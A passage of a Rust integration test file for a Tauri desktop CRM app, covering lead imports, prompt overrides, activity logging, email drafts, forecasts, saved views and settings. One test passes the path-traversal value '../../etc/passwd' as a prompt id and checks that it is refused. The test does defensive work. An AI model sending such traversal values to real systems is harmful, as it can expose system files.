    assert_eq!(names, ["Ada Lovelace"]);
}

#[test]
fn a_file_dropped_on_the_window_is_previewed_without_its_path_reaching_the_window() {
    use tauri::{Listener, Manager};
    let app = App::start();
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/contacts.vcf");
    let told = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let sink = told.clone();
    app.window
        .app_handle()
        .listen_any("file-dropped", move |event| {
            sink.lock().unwrap().push(event.payload().to_owned());
        });

    let none = app.err("preview_import", json!({ "source": "dropped" }));
    assert!(
        none["message"]
            .as_str()
            .unwrap()
            .contains("No file was dropped"),
        "{none}"
    );
    leadscout_app::file_dropped(app.window.app_handle(), std::slice::from_ref(&file));
    assert_eq!(*told.lock().unwrap(), ["\"contacts.vcf\""], "the name only");
    let preview = app.ok("preview_import", json!({ "source": "dropped" }));
    assert_eq!(preview["fileName"], "contacts.vcf");
    assert_eq!(preview["rows"], 3);
    let summary = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
    );
    assert_eq!(summary["created"], 2);
    // The drop is taken once; no dialog was shown.
    assert!(app
        .call("preview_import", json!({ "source": "dropped" }))
        .is_err());
    assert!(app.dialogs.asked.lock().unwrap().is_empty());
}

#[test]
fn a_cancelled_import_keeps_the_batches_already_written_and_stops() {
    let app = App::start();
    let out = tempfile::tempdir().unwrap();
    let file = out.path().join("many.csv");
    let mut csv = String::from("Name,Email\n");
    for i in 0..1_200 {
        csv.push_str(&format!("Person {i},p{i}@example.org\n"));
    }
    std::fs::write(&file, csv).unwrap();
    app.dialogs.choose(&file);
    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
    // The UI's Cancel during the import; here it is pressed before, and lands after a batch.
    app.ok("cancel_import", json!({}));
    let summary = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
    );
    assert_eq!(summary["cancelled"], true);
    assert_eq!(
        summary["created"], 500,
        "one transaction of 500 rows, then the stop"
    );
    // The next import is not cancelled by the last one's button.
    let rest = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
    );
    assert_eq!(rest["cancelled"], false);
    assert_eq!(rest["created"], 700);
    assert_eq!(rest["skipped"], 500);
}

#[test]
fn prompt_overrides_are_listed_explained_when_broken_and_reset_keeping_the_file() {
    let app = App::start();
    let prompts = app.ok("prompts", json!({}));
    let ids: Vec<&str> = prompts
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        [
            "email/draft",
            "email/first-touch",
            "email/follow-up",
            "lead-research/footprint",
            "lead-research/insights",
            "shared/context"
        ]
    );
    // The email templates are listed too, and research's prompts keep their places after them.
    let prompts = serde_json::Value::Array(prompts.as_array().unwrap()[3..].to_vec());
    assert!(prompts[2]["description"]
        .as_str()
        .unwrap()
        .starts_with("The shared context"));
    assert!(prompts[1]["overridden"] == false && prompts[1]["problem"].is_null());
    let path = std::path::PathBuf::from(prompts[1]["path"].as_str().unwrap());
    assert!(path.starts_with(app.dir.path().join("data/prompts")));

    // The user's own version: shown as theirs, with its version.
    let shipped = include_str!("../prompts/lead-research/insights.md");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, shipped.replace("version: 2", "version: 3")).unwrap();
    let prompts = app.ok("prompts", json!({}));
    assert_eq!(prompts[4]["overridden"], true);
    assert_eq!(prompts[4]["version"], 3);

    // A broken one says why research would refuse it.
    std::fs::write(
        &path,
        "---\nid: lead-research/insights\nversion: x\n---\nHi",
    )
    .unwrap();
    let prompts = app.ok("prompts", json!({}));
    assert!(
        prompts[4]["problem"]
            .as_str()
            .unwrap()
            .contains("version must be a whole number"),
        "{}",
        prompts[4]
    );

    // Reset moves the file aside; nothing the user wrote is deleted.
    let prompts = app.ok("reset_prompt", json!({ "id": "lead-research/insights" }));
    assert_eq!(prompts[4]["overridden"], false);
    assert!(!path.exists());
    assert!(std::fs::read_to_string(path.with_extension("md.bak"))
        .unwrap()
        .ends_with("Hi"));
    let err = app.err("reset_prompt", json!({ "id": "../../etc/passwd" }));
    assert_eq!(err["code"], "validation");

    // No research yet: the inspector has nothing to show, and says so with an empty list.
    let lead = app.ok("create_lead", new_lead("Ada", None));
    assert_eq!(
        app.ok("context_inspector", json!({ "lead": lead["id"] })),
        json!([])
    );
}

#[test]
fn a_call_is_quick_logged_with_a_follow_up_and_a_lost_deal_keeps_its_reason() {
    let app = App::start();
    let id = app.ok("create_lead", new_lead("Grace Hopper", None))["id"]
        .as_i64()
        .unwrap();
    let logged = app.ok(
        "log_activity",
        json!({ "input": {
            "activity": { "leadId": id, "kind": "call", "body": "", "outcome": "leftVoicemail",
                          "occurredAt": 1_764_000_000_000_i64 },
            "followUp": { "nextStep": "Call again", "date": "2026-12-09", "time": null }
        } }),
    );
    assert_eq!(logged["activity"]["outcome"], "leftVoicemail");
    assert_eq!(logged["lead"]["lastContactedAt"], 1_764_000_000_000_i64);
    assert_eq!(logged["lead"]["nextStep"], "Call again");
    let board = app.ok("get_board", json!({}));
    let card = &board["columns"][0]["leads"][0];
    assert_eq!(card["lastContactedAt"], 1_764_000_000_000_i64);
    assert_eq!(card["nextStepDue"], "2026-12-09");

    // A bad follow-up date refuses the whole log, naming the field.
    let err = app.err(
        "log_activity",
        json!({ "input": {
            "activity": { "leadId": id, "kind": "email", "body": "", "outcome": null, "occurredAt": null },
            "followUp": { "nextStep": null, "date": "soon", "time": null }
        } }),
    );
    assert_eq!(err["field"], "nextStepDue");
    assert_eq!(
        app.ok("get_lead", json!({ "id": id }))["activities"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    // Lost: the reason is asked after the move, and refused while the deal is open.
    let err = app.err(
        "set_lost_reason",
        json!({ "input": { "leadId": id, "reason": "price", "note": null } }),
    );
    assert_eq!(err["code"], "validation");
    let lost = stage_id(&board, "Lost");
    let moved = app.ok(
        "move_lead",
        json!({ "id": id, "stageId": lost, "beforeId": null }),
    );
    assert!(moved["closedAt"].is_i64());
    let err = app.err(
        "set_lost_reason",
        json!({ "input": { "leadId": id, "reason": "other", "note": " " } }),
    );
    assert_eq!(err["field"], "note");
    let lead = app.ok(
        "set_lost_reason",
        json!({ "input": { "leadId": id, "reason": "not_a_fit", "note": "Too small for us" } }),
    );
    assert_eq!(
        (&lead["lostReason"], &lead["lostNote"]),
        (&json!("not_a_fit"), &json!("Too small for us"))
    );
}

#[test]
fn an_email_is_drafted_from_a_template_then_logged_when_copied() {
    let app = App::start();
    let id = app.ok(
        "create_lead",
        new_lead("Ada Lovelace", Some("ada@analytical.example")),
    )["id"]
        .as_i64()
        .unwrap();
    let draft = app.ok(
        "draft_email",
        json!({ "input": { "leadId": id, "kind": "followUp", "withModel": true,
                           "talkingPoint": "Your engine needs punched cards." } }),
    );
    assert_eq!(draft["to"], "ada@analytical.example");
    assert_eq!(
        draft["subject"],
        "Following up: analytical.example and my company"
    );
    let body = draft["body"].as_str().unwrap();
    assert!(
        body.starts_with(
            "Hi Ada,\n\nI am following up on my last note.\n\nYour engine needs punched cards.\n\n"
        ),
        "{body}"
    );
    // Without a model the template is the draft, and the dialog says why.
    assert_eq!(draft["modelNote"], "No model is set up (Settings → Model).");

    // No mail client in the mock runtime: the user is told to copy, and nothing is logged.
    let sent = json!({ "input": { "leadId": id, "subject": "Hello & welcome?", "body": body, "via": "mailClient" } });
    let err = app.err("send_email_draft", sent.clone());
    assert_eq!(
        err["message"],
        "Your mail client could not be opened. Copy the email instead."
    );
    assert!(app.ok("get_lead", json!({ "id": id }))["activities"]
        .as_array()
        .unwrap()
        .is_empty());
    let mut copied = sent;
    copied["input"]["via"] = json!("copied");
    let logged = app.ok("send_email_draft", copied);
    assert_eq!(logged["activity"]["kind"], "email");
    assert!(logged["activity"]["body"]
        .as_str()
        .unwrap()
        .starts_with("Hello & welcome?\n\nHi Ada,"));
    assert!(logged["lead"]["lastContactedAt"].is_i64());
}

#[test]
fn a_stage_probability_weighs_the_forecast_and_the_reports_arrive_whole() {
    let app = App::start();
    let board = app.ok("get_board", json!({}));
    let qualified = stage_id(&board, "Qualified");
    let err = app.err(
        "update_stage",
        json!({ "id": qualified, "edit": { "name": null, "kind": null, "color": null, "probability": 150 } }),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("probability"))
    );
    let lead = app.ok("create_lead", json!({ "input": { "fullName": "Grace", "email": null, "companyName": null, "website": null, "stageId": qualified } }));
    app.ok(
        "update_lead",
        json!({ "id": lead["id"], "edit": { "field": "dealValue", "value": "1000" } }),
    );
    let edited = app.ok(
        "update_lead",
        json!({ "id": lead["id"], "edit": { "field": "expectedClose", "value": "2027-02-03" } }),
    );
    assert_eq!(edited["expectedClose"], "2027-02-03");
    let stage = app.ok(
        "update_stage",
        json!({ "id": qualified, "edit": { "name": null, "kind": null, "color": null, "probability": 25 } }),
    );
    assert_eq!(stage["probability"], 25);

    let board = app.ok("get_board", json!({}));
    let column = board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["stage"]["id"] == qualified)
        .unwrap();
    assert_eq!(
        column["weightedTotals"],
        json!([{ "currency": "USD", "amount": 25_000 }])
    );
    let reports = app.ok("get_reports", json!({ "offsetMinutes": 60 }));
    assert_eq!(
        reports["forecast"]["openWeighted"],
        json!([{ "currency": "USD", "amount": 25_000 }])
    );
    assert_eq!(reports["forecast"]["months"][0]["month"], "2027-02");
    // Created in Qualified, Grace has passed New and Contacted on the way.
    assert_eq!(reports["conversion"][0]["reachedFrom"], 1);
    assert_eq!(reports["conversion"][1]["reachedTo"], 1);
}

#[test]
fn a_view_filtering_on_custom_fields_is_checked_survives_a_restart_and_outlives_its_field() {
    let app = App::start();
    let field = |name: &str, kind: &str, choices: Value| {
        app.ok(
            "create_custom_field",
            json!({ "input": { "name": name, "kind": kind, "choices": choices } }),
        )["id"]
            .clone()
    };
    let tier = field("Tier", "choice", json!(["Gold", "Silver"]));
    let budget = field("Budget", "number", json!([]));
    let ada = app.ok("create_lead", new_lead("Ada", None))["id"].clone();
    let grace = app.ok("create_lead", new_lead("Grace", None))["id"].clone();
    for (lead, field, value) in [
        (&ada, &tier, "Gold"),
        (&ada, &budget, "12,500"),
        (&grace, &tier, "Gold"),
        (&grace, &budget, "800"),
    ] {
        app.ok(
            "set_custom_value",
            json!({ "input": { "leadId": lead, "fieldId": field, "value": value } }),
        );
    }
    let view =
        |filter: Value| json!({ "view": { "name": "Big gold", "filter": filter, "pinned": true } });
    let err = app.err(
        "save_view",
        view(json!({ "custom": [{ "fieldId": budget, "min": "9000", "max": "100" }] })),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("custom"))
    );
    let err = app.err(
        "save_view",
        view(json!({ "custom": [{ "fieldId": tier, "value": "Bronze" }] })),
    );
    assert!(
        err["message"].as_str().unwrap().contains("Gold, Silver"),
        "{err}"
    );
    let conditions = json!([
        { "fieldId": tier, "value": "gold" },
        { "fieldId": budget, "min": "1,000" }
    ]);
    let saved = app.ok("save_view", view(json!({ "custom": conditions })));
    assert_eq!(
        saved["filter"]["custom"],
        json!([
            { "fieldId": tier, "value": "Gold", "min": null, "max": null },
            { "fieldId": budget, "value": "", "min": "1000", "max": null }
        ])
    );
    let matches = app.ok("custom_matches", json!({ "conditions": conditions }));
    assert_eq!(matches, json!({ "leadIds": [ada], "gone": [] }));
    let err = app.err(
        "custom_matches",
        json!({ "conditions": [{ "fieldId": budget, "min": "lots" }] }),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("custom"))
    );

    // Closed and opened again: the view is there as saved.
    let App { dir, .. } = app;
    let app = App::start_in(dir);
    let views = app.ok("saved_views", json!({}));
    assert_eq!(views[0]["filter"], saved["filter"]);

    // Its Budget field deleted, the view still reads; the store drops that condition and says so.
    app.ok("delete_custom_field", json!({ "id": budget }));
    let views = app.ok("saved_views", json!({}));
    let matches = app.ok(
        "custom_matches",
        json!({ "conditions": views[0]["filter"]["custom"] }),
    );
    assert_eq!(
        matches,
        json!({ "leadIds": [ada, grace], "gone": [budget] })
    );
}

#[test]
fn a_saved_view_is_checked_kept_by_name_and_deleted() {
    let app = App::start();
    let err = app.err(
        "save_view",
        json!({ "view": { "name": "  ", "filter": {}, "pinned": true } }),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("name"))
    );
    let err = app.err(
        "save_view",
        json!({ "view": { "name": "Upside down", "filter": { "fitMin": 90, "fitMax": 10 }, "pinned": true } }),
    );
    assert_eq!(err["field"], "fit");
    let saved = app.ok(
        "save_view",
        json!({ "view": { "name": " Hot ", "filter": { "tags": ["EMEA"], "stages": [3], "fitMin": 60, "due": "overdue" }, "pinned": true } }),
    );
    assert_eq!(saved["name"], "Hot");
    assert_eq!(saved["filter"]["due"], "overdue");
    let views = app.ok("saved_views", json!({}));
    assert_eq!(views.as_array().unwrap().len(), 1);
    app.ok("delete_view", json!({ "id": saved["id"] }));
    assert_eq!(app.ok("saved_views", json!({})), json!([]));
}

#[test]
fn settings_naming_an_unknown_provider_are_a_clear_error_until_new_ones_are_saved() {
    let app = App::start();
    let mock_app::App { dir, .. } = app;
    let data = dir.path().join("data");
    // Settings another program (or a newer version) wrote with a provider this one does not know.
    let saved = json!({ "workers": 3, "model": { "provider": "skynet", "model": "m" } });
    tauri::async_runtime::block_on(async {
        let store = leadscout_store::Store::open(&data.join(leadscout_store::DATABASE_FILE))
            .await
            .unwrap();
        store
            .save_setting("app", &saved, leadscout_domain::Timestamp::now())
            .await
            .unwrap();
        store.close().await;
    });
    let app = App::start_in(dir);
    // The app starts and says what is wrong instead of showing the defaults as if saved.
    let refused = app.err("get_settings", json!({}));
    assert!(refused.to_string().contains("skynet"), "{refused}");
    // Saving settings from the page replaces them.
    let mut fresh = json!({ "workers": 2, "model": { "provider": "ollama", "baseUrl": null, "model": "llama3.2:3b" } });
    fresh = app.ok("update_settings", json!({ "settings": fresh }));
    assert_eq!(app.ok("get_settings", json!({})), fresh);
}
